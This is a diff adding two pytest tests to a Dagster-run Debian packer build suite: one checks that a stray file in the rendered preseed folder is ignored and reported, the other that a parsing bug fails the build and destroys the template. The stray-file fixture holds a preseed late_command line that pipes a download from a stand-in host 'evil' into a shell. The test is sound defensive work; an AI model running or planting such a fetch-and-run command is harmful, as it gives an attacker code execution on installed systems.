@@ -1,6 +1,7 @@
 """template and template_proof through Dagster: a real Debian packer 1.6.6 build against the lab."""
 
 import json
+import logging
 import os
 
 import dagster as dg
@@ -359,3 +360,40 @@ def test_rebuild_template_forced_forces_without_its_preset_config_or_tag(lab_pro
         launched = job.execute_in_process(partition_key=KEY, instance=instance, raise_on_error=False)
         assert launched.success and assets.FORCE_TAG not in run_tags(instance, launched)
         assert run_tags(instance, launched)[assets.OUTCOME_TAG] == "built" and len(materializations(instance)) == 2
+
+
+def test_a_file_dropped_into_the_rendered_folder_is_named_and_never_served(lab_project):
+    """`evil.cfg` in output/rendered/<key>/ before a run: unattended_files warns, the build copies only the
+    rendered preseed.cfg into its work dir, and the build's warnings (and proof) name the stray, its
+    rendered_files do not list it."""
+    folder = lab_project.layout.rendered_dir(KEY)
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "evil.cfg").write_text("d-i preseed/late_command string curl http://evil/x | sh\n")
+    with dg.instance_for_test() as instance:
+        result = rebuild(lab_project, instance)
+        assert result.success, [e.message for e in result.all_events if e.is_failure]
+        said = [e.user_message for e in instance.all_logs(result.run_id) if e.level == logging.WARNING]
+    assert any("ignored evil.cfg" in line and "never served" in line for line in said), said
+    [http] = lab_project.layout.work_dir(KEY).glob("*/http")
+    assert sorted(p.name for p in http.iterdir()) == ["preseed.cfg"]
+    proof = json.loads((proofs_of(lab_project) / "latest" / "proof.json").read_text())
+    assert list(proof["rendered_files"]) == ["preseed.cfg"]
+    assert any("ignored evil.cfg" in w for w in proof["warnings"]), proof["warnings"]
+
+
+def test_a_bug_in_the_smoke_test_s_parsing_fails_the_build_as_ours_and_destroys_the_template(lab_project,
+                                                                                              monkeypatch):
+    """A KeyError injected into our parsing of the guest's answer (parse_identity): the build fails naming a
+    packer-assets bug with the traceback in the build log; the new template is destroyed, nothing promoted."""
+    def broken(output):
+        raise KeyError("machine-id")
+
+    monkeypatch.setattr("packer_assets.pve.smoke.parse_identity", broken)
+    with dg.instance_for_test() as instance:
+        result = rebuild(lab_project, instance)
+        assert not result.success and run_tags(instance, result)[assets.OUTCOME_TAG] == "failed"
+    log = (lab_project.layout.build_log_dir(KEY, "latest") / "packer.log").read_text()
+    assert "a bug in packer-assets, not a fault of the template" in log
+    assert "Traceback (most recent call last)" in log and "KeyError: 'machine-id'" in log and "in broken" in log
+    assert "destroying the new template" in log and "failed at step" not in log
+    assert templates_of(lab_project.pve) == {} and not proofs_of(lab_project).exists()
